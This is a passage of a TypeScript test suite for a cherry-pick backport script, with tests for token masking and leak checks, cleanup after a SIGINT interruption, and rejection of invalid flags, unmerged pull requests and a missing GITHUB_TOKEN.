      GITHUB_ACTIONS: 'true',
      GITHUB_SERVER_URL: gh.url,
      GITHUB_RUN_ID: '77',
      PATH: `${shim.bin}:${process.env.PATH}`,
      GIT_ARGV_LOG: shim.log,
    })
    const argv = watch.stop()

    // One target picked, one conflicting: the success and the failure paths both ran.
    expect(run.exitCode, run.stderr).toBe(1)
    expect(run.outputs.failed_branches).toEqual(['release-2.0'])
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-release-1.0`)).toBeDefined()

    // The one place it may appear: the workflow command that asks Actions to mask it.
    expect(run.stderr.split('\n').filter((l) => l.includes(TOKEN))).toEqual([`::add-mask::${TOKEN}`])
    expect(run.stdout).not.toContain(TOKEN)
    expect(JSON.stringify(run.outputs)).not.toContain(TOKEN)

    const gitCalls = fs.readFileSync(shim.log, 'utf8')
    expect(gitCalls).toMatch(/^git fetch .*origin/m)
    expect(gitCalls).toMatch(/^git push --quiet origin HEAD:refs\/heads\/cherry-pick\//m)
    expect(gitCalls).not.toContain(TOKEN)
    expect(argv.some((a) => /scripts\/cherry-pick\.m[jt]s/.test(a))).toBe(true)
    expect(argv.filter((a) => a.includes(TOKEN))).toEqual([])

    expect(fs.readFileSync(path.join(f.checkout, '.git', 'config'), 'utf8')).not.toContain(TOKEN)
    expect(git(f.checkout, 'remote', 'get-url', 'origin')).toBe(gh.gitUrl(f.name))
    const written = [...(await gh.pulls(f.name)).map((p) => `${p.title} ${p.body}`), ...gh.comments(f.name, pr.number).map((c) => c.body)]
    expect(written.join('\n')).not.toContain(TOKEN)

    // git asked the credential helper: the push was refused without credentials, then made as the bot.
    const pushes = gh.requests.slice(requestsBefore).filter((q) => q.path === `/${f.name}.git/info/refs` && q.query.service === 'git-receive-pack')
    expect(pushes.map((q) => q.status)).toEqual([401, 200])
    expect(pushes[1].login).toBe(BOT)
  })
})

describe('cherry-pick: interrupted', () => {
  it('Ctrl-C mid-pick stops git, removes the temporary worktree and leaves the checkout as it was', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-interrupt', [{ 'app.txt': 'interrupt\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const shim = gitShim()
    const pause = path.join(shim.bin, 'paused')
    const before = checkoutState(f)

    const run = await cherryPick(
      f,
      ['--pr', String(pr.number), '--to', 'release-1.0'],
      { PATH: `${shim.bin}:${process.env.PATH}`, GIT_ARGV_LOG: shim.log, GIT_SHIM_PAUSE: pause },
      {
        onSpawn: (child) => {
          const timer = setInterval(() => {
            if (fs.existsSync(pause)) {
              clearInterval(timer)
              child.kill('SIGINT')
            }
          }, 20)
          child.on('exit', () => clearInterval(timer))
        },
      },
    )
    expect(run.exitCode, run.stderr).toBe(130)
    expect(run.stderr).toContain('Interrupted (SIGINT); cleaning up')
    const [pid, worktree] = fs.readFileSync(pause, 'utf8').trim().split(' ')
    expect(worktree).not.toBe(f.checkout)
    expect(fs.existsSync(worktree)).toBe(false)
    // The parked `git cherry-pick` was stopped with the script, not left running.
    const alive = () => fs.existsSync(`/proc/${pid}`) && !/^Z/m.test(fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1] ?? '')
    for (let i = 0; i < 50 && alive(); i++) await new Promise((r) => setTimeout(r, 20))
    expect(alive()).toBe(false)
    expect(checkoutState(f)).toEqual(before)
    expect(git(f.bare, 'branch', '--list', 'cherry-pick/*')).toBe('')
    expect(gh.comments(f.name, pr.number)).toEqual([])
  })
})

describe('cherry-pick: bad input', () => {
  let f: Fixture
  let merged: number
  let open: number
  beforeAll(async () => {
    f = setup()
    merged = (await openPr(f, 'fix-bad', [{ 'app.txt': 'bad\n' }])).number
    await gh.mergePullRequest(f.name, merged, 'squash')
    open = (await openPr(f, 'fix-open', [{ 'open.txt': 'open\n' }])).number
  })

  it.each([
    [['--frobnicate'], /unknown flag --frobnicate/],
    [['--pr', '1'], /--to BRANCH is required/],
    [['--to', 'release-1.0'], /--to needs --pr N or --commit SHA/],
    [['--pr', 'abc', '--to', 'release-1.0'], /--pr: expected a pull request number/],
    [['--pr', '1', '--commit', 'HEAD', '--to', 'release-1.0'], /not both/],
    [[], /nothing to pick: pass --pr N --to BRANCH/],
  ])('%j exits 2', async (args, message) => {
    const run = await cherryPick(f, args)
    expect(run.exitCode, run.stderr).toBe(2)
    expect(run.stderr).toMatch(message)
  })

  it('refuses a target outside cherryPick.targetBranches, or missing on the remote, before doing anything', async () => {
    const run = await cherryPick(f, ['--pr', String(merged), '--to', 'main', '--to', 'release-9.9'])
    expect(run.exitCode, run.stderr).toBe(2)
    expect(run.stderr).toContain('cannot cherry-pick onto main: does not match release-*; release-9.9: no branch release-9.9 on origin')
    expect(gh.comments(f.name, merged)).toEqual([])
  })

  it('refuses a PR that is not merged, and one that does not exist', async () => {
    const notMerged = await cherryPick(f, ['--pr', String(open), '--to', 'release-1.0'])
    expect(notMerged.exitCode, notMerged.stderr).toBe(2)
    expect(notMerged.stderr).toContain(`#${open} is still open: only merged pull requests are picked (label it cherry-pick/<branch>`)
    const missing = await cherryPick(f, ['--pr', '999', '--to', 'release-1.0'])
    expect(missing.exitCode, missing.stderr).toBe(2)
    expect(missing.stderr).toContain(`no pull request #999 in ${f.name}`)
  })

  it('needs a token', async () => {
    const run = await cherryPick(f, ['--pr', String(merged), '--to', 'release-1.0'], { GITHUB_TOKEN: '' })
    expect(run.exitCode, run.stderr).toBe(2)
    expect(run.stderr).toContain('GITHUB_TOKEN is not set')
  })
})
